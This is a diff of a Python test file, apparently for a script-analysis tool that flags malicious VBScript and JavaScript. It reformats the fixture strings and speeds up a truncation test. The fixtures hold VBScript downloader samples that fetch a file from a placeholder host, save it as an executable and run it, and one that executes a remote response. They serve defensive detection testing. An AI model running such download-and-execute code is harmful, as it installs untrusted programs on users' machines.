@@ -74,7 +74,8 @@ def test_hidden_intent_is_told(how):
 
 
 OPEN = {
-    "download in VBScript": 'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://a.invalid/a", False\nx.Send\n'
+    "download in VBScript": 'Set x = CreateObject("MSXML2.XMLHTTP")\n'
+    'x.Open "GET", "http://a.invalid/a", False\nx.Send\n'
     'Set s = CreateObject("ADODB.Stream")\ns.Write x.responseBody\ns.SaveToFile "a.exe", 2\n'
     'CreateObject("WScript.Shell").Run "a.exe"\n',
     "answer is run": 'Set x = CreateObject("Microsoft.XMLHTTP")\nx.Send\na = Array(1, x.responseText)\nExecute a(1)\n',
@@ -90,7 +91,8 @@ def test_open_downloaders_are_told(how):
 
 
 HONEST = {
-    "inventory": 'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nFor Each o In w.ExecQuery("Select * From Win32_Service")\n'
+    "inventory": 'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\n'
+    'For Each o In w.ExecQuery("Select * From Win32_Service")\n'
     "  WScript.Echo o.Name\nNext\n",
     "starts a program": 'Set s = CreateObject("WScript.Shell")\ns.Run "notepad.exe C:\\readme.txt", 1, True\n',
     "quiet": 'Set s = CreateObject("WScript.Shell")\ns.Run "reg add HKCU\\Software\\X /v a /d b", 0, True\n',
@@ -171,10 +173,13 @@ def test_padding_hides_nothing(fill, where):
     assert rules_of(look(data)) == rules_of(look(plain))
 
 
-def test_what_is_too_long_is_a_gap_and_its_end_is_read():
-    junk = "\n".join(f"// {random.Random(number).getrandbits(200):x}" for number in range(170_000))
+def test_what_is_too_long_is_a_gap_and_its_end_is_read(monkeypatch):
+    monkeypatch.setattr("emotriage.analyzers.script._LIMIT", 64 << 10)
+    monkeypatch.setattr("emotriage.analyzers.script._TAIL", 8 << 10)
+    junk = "\n".join(f"// {random.Random(number).getrandbits(200):x}" for number in range(2000))
     found = look("var a = 1;\n" + junk + "\n" + HIDING["joined"])
     assert {"not-read-whole", "hidden-words"} <= rules_of(found)
+    assert rules_of(look("var a = 1;\n" + junk + "\nvar b = 2;\n")) == {"not-read-whole"}
 
 
 @pytest.mark.parametrize("how", HIDING)
